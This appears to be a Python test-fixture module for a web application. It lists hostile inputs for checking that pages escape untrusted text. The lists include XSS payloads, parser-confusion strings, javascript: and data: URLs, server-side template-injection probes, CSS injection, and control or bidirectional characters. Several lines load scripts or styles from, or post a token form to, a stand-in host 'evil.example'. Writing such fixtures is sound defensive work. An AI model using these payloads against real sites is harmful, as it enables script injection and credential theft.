"""Texts that break pages which trust them: scripts, broken attributes and elements, templates, odd characters, widths.

Whatever becomes markup shows: the scripts call ``alert``, and most payloads make an element ``x-mark`` or an attribute
``data-mark`` that no page of ours has.
"""

from __future__ import annotations

#: scripts and elements that run something when they become markup
SCRIPTS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script type=module>import('//evil.example/a.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\x0b=alert(1) data-mark>",
    "<IMG/SRC=x/ONERROR=alert(1)//>",
    "<img src=`x` onerror=`alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg/onload=alert`1`//",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>cliquez</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<button popovertarget=m>x</button><x-mark popover id=m onbeforetoggle=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=token><button>Envoyer</button></form>",
    "<marquee onstart=alert(1)>x</marquee>",
)

#: ways out of attributes, elements, comments and scripts, and into those that the parser repairs
BREAKS: tuple[str, ...] = (
    '"><x-mark data-mark>',
    "'><x-mark data-mark>",
    "`><x-mark data-mark>",
    '" onmouseover="alert(1)" data-mark="',
    "' onmouseover='alert(1)' data-mark='",
    '" autofocus onfocus=alert(1) x="',
    "x data-mark onclick=alert(1)",
    "\\\" onmouseover=alert(1) data-mark \\",
    "</title><script>alert(1)</script>",
    "</textarea><x-mark data-mark>",
    "</script><script>alert(1)</script>",
    "</style><x-mark data-mark>",
    "</select></option><x-mark data-mark>",
    "</time></a></h3></li></article><x-mark data-mark>",
    "--><x-mark data-mark><!--",
    "--!><x-mark data-mark>",
    "--&gt;<x-mark data-mark>",
    "]]><x-mark data-mark>",
    "<![CDATA[<x-mark data-mark>]]>",
    "<!--<x-mark data-mark>",
    "<?xml version='1.0'?><x-mark data-mark>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><caption><svg><title><x-mark data-mark>",
    "<plaintext>",
    "<x-mark",
    "&lt;x-mark data-mark&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;",
)  # fmt: skip

#: addresses that run something when they are followed
ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://outlet.example/",
    "jav&#x09;ascript:alert(1)",
    "jav\tascript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://outlet.example/\"onclick=alert(1) data-mark='",
)

#: what template engines, style sheets and other readers would follow
TEMPLATES: tuple[str, ...] = (
    "{{7*7}}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in range(9) %}x-mark{% endfor %}",
    "{# {{7*7}} #}",
    "{0.__class__.__mro__}",
    "{name}{}%(name)s%s%n",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "x}body{display:none}/*",
    "</style><style>*{display:none!important}",
    "background:url(//evil.example/x)",
    "@import '//evil.example/a.css';",
)

#: characters that turn texts around, end lines, or stand for nothing
CHARACTERS: tuple[str, ...] = (
    "nul\x00octet<x-mark\x00data-mark>",
    "\u202egnirts desrever\u202c \u2066isolé\u2069",
    "ligne\u2028séparée\u2029encore",
    "\ufeff\u200b\u200d\u00ad<x-mark\u00a0data-mark>",
    "＜script＞alert(1)＜/script＞",
    "\x1b[31mrouge\x07\x08",
    "Z\u0351\u036b\u0313\u036aA\u0332\u0318\u0319L\u0320\u031e\u0326G\u0334\u031eO\u0328\u0301" * 12,
)

#: what widens a page: nothing in it says where a line may break
WIDE: tuple[str, ...] = (
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 4,
    "https://outlet.example/" + "a" * 400,
    "M" * 300,
    "\u00a0".join(["insécable"] * 40),
    "ﷺ" * 120,
    "-" * 400,
)

PAYLOADS: tuple[str, ...] = SCRIPTS + BREAKS + ADDRESSES + TEMPLATES + CHARACTERS + WIDE
